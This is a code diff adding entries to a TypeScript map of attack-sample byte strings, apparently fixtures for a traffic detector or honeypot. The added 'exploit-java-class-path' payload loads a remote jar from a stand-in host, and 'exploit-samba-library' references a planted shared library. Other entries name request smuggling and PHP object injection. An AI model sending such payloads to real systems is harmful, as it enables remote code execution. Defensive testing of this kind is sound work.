@@ -66,6 +66,8 @@ const tails: Readonly<Record<string, string>> = {
   'management-without-password': `${'\x01'.repeat(18)}\0\0\0\x08\0abc\x01\0\0\x08\0`,
   'device-configuration-copy': '\x02\x6f\x02\x01\x01',
   'device-configuration-copy-old': '\x0a\0\0\x05\x04\x09router.cfg',
+  'exploit-java-class-path': `${'\0'.repeat(70)}t\0\x1ehttp://192.0.2.7:8080/x.jar`,
+  'exploit-samba-library': 'data/x.so',
   'object-php': '4:"file"',
   'request-smuggling-body': 'admin HTTP/1.1',
   'exploit-middleware': 'middleware:middleware',
